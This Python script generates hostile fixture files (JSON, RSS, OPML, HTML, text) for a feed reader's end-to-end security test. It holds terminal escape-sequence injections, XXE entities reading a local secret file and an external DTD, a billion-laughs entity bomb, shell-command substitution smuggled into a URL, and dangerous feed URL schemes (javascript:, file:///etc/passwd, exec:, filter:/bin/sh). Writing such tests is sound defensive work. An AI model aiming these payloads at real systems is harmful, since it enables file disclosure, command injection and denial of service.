#!/usr/bin/env python3
"""Writes the hostile inputs of tests/e2e/hostile.sh into DIR (usage: make.py DIR).

Every title and body carries terminal tricks: CSI colour and clear-screen
sequences, an OSC 8 hyperlink, a DCS string, a carriage return that would
overwrite the start of the line, backspaces, and bidi overrides and isolates.
Then the XML attacks: a file:// external entity, an external DTD (loaded as
the document's DTD and as a parameter entity), and a billion-laughs DOCTYPE,
each as a feed, an OPML file and an HTML page. SECRET is the text of the
file they try to read; it must never show.
"""
import json
import os
import sys

ESC = "\x1b"
TRICKS = (ESC + "[31mRED" + ESC + "[0m " + ESC + "]8;;https://evil.example/\x07click" + ESC + "]8;;\x07 "
          + "Safe\rOVERWRITE back\b\b\bspace \u202ereversed\u202c \u2066iso\u2069 " + ESC + "[2J" + ESC + "P1$r" + ESC + "\\ end")
SECRET = "SECRET-MARKER-7f3a"
LAUGHS = "".join('<!ENTITY lol%d "%s">\n' % (i, ("&lol%s;" % (i - 1 or "")) * 10) for i in range(1, 10))


def esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;")


def main():
    d = sys.argv[1]
    w = lambda name, text: open(os.path.join(d, name), "w", encoding="utf-8").write(text)
    link = "https://hostile.example/a?x=$(touch %s/pwned)&y=`touch %s/pwned2`;z \"q\" it's" % (d, d)
    body = "PARIS (AP) \u2014 " + TRICKS + " \"We never print escapes,\" said Mayor Anne Hidalgo."
    w("hostile.json", json.dumps({
        "version": "https://jsonfeed.org/version/1.1", "title": "Feed " + TRICKS,
        "home_page_url": "https://hostile.example/",
        "items": [{"id": "1", "url": link, "title": "Title " + TRICKS, "content_text": body + "\n\n" + TRICKS,
                   "authors": [{"name": "Ann " + TRICKS}], "tags": ["tag " + TRICKS],
                   "date_published": "2025-04-01T10:00:00Z"},
                  {"id": "2", "url": "https://hostile.example/b", "title": "Second " + TRICKS,
                   "content_html": "<p>" + esc(body) + "</p>", "date_published": "2025-04-02T10:00:00Z"}]}))
    # XML 1.0 forbids most C0 controls even as references; the feed parser must still keep them off the screen
    w("hostile.xml", '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>RSS %s</title>'
      '<link>https://hostile.example/</link><item><title>Item %s</title><link>https://hostile.example/r1</link>'
      '<description><![CDATA[<p>%s</p>]]></description><pubDate>Tue, 01 Apr 2025 10:00:00 GMT</pubDate></item>'
      '<item><title>Refs &#27;[31mred &#x202E;rev &#8;bs &#13;cr</title><link>https://hostile.example/r2</link></item>'
      '</channel></rss>\n' % (esc(TRICKS), esc(TRICKS), body))
    w("hostile.html", "<!DOCTYPE html><html><head><title>Page %s</title><meta name=author content='Ann %s'></head>"
      "<body><article><h1>Headline %s</h1><p>%s</p><p>Second %s paragraph with enough words to make an article "
      "worth extracting from this page.</p></article></body></html>\n" % (esc(TRICKS), esc(TRICKS).replace("'", ""),
                                                                          esc(TRICKS), esc(body), esc(TRICKS)))
    w("hostile.txt", "Headline " + TRICKS + "\n\n" + body + "\n\nSecond " + TRICKS + "\n")
    w("secret.txt", SECRET + "\n")
    w("ext.dtd", '<!ENTITY leak SYSTEM "file://%s/secret.txt">\n<!ENTITY inline "%s">\n' % (d, SECRET))
    dtd = lambda root: ('<!DOCTYPE ' + root + ' SYSTEM "file://' + d + '/ext.dtd" [\n'
                        '<!ENTITY xxe SYSTEM "file://' + d + '/secret.txt">\n'
                        '<!ENTITY % pe SYSTEM "file://' + d + '/ext.dtd">\n%pe;\n'
                        '<!ENTITY lol "lol">\n' + LAUGHS + ']>\n')
    refs = "&xxe; &leak; &inline; &lol9;"
    w("xxe.xml", '<?xml version="1.0"?>\n' + dtd("rss") + '<rss version="2.0"><channel><title>XXE %s</title>'
      '<item><title>%s</title><description>%s</description><link>https://x.example/1</link></item>'
      '</channel></rss>\n' % (refs, refs, refs))
    w("xxe.opml", '<?xml version="1.0"?>\n' + dtd("opml") + '<opml version="2.0"><head><title>%s</title></head><body>'
      '<outline text="%s" title="%s" xmlUrl="https://x.example/feed?%s"/></body></opml>\n' % (refs, refs, refs, refs))
    w("xxe.html", '<?xml version="1.0"?>\n' + dtd("html") + '<html><head><title>%s</title></head><body><article>'
      '<p>PARIS (AP) - The mayor said on Tuesday that the bridge would open, %s, after four years of work.</p>'
      '<p>%s The second paragraph has more words so that it reads as an article.</p></article></body></html>\n'
      % (refs, refs, refs))
    w("laughs.xml", '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol "lol">\n' + LAUGHS
      + ']>\n<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;&lol9;</title>'
      '<description>&lol9;</description></item></channel></rss>\n')
    w("schemes.opml", '<?xml version="1.0"?>\n<opml version="2.0"><body>'
      '<outline text="good" xmlUrl="https://good.example/feed"/>'
      '<outline text="js" xmlUrl="javascript:alert(1)"/>'
      '<outline text="file" xmlUrl="file:///etc/passwd"/>'
      '<outline text="exec" xmlUrl="exec:touch %s/pwned3"/>'
      '<outline text="filter" xmlUrl="filter:/bin/sh:https://x.example/"/>'
      '<outline text="data" xmlUrl="data:text/xml,&lt;rss/&gt;"/>'
      '</body></opml>\n' % d)


main()
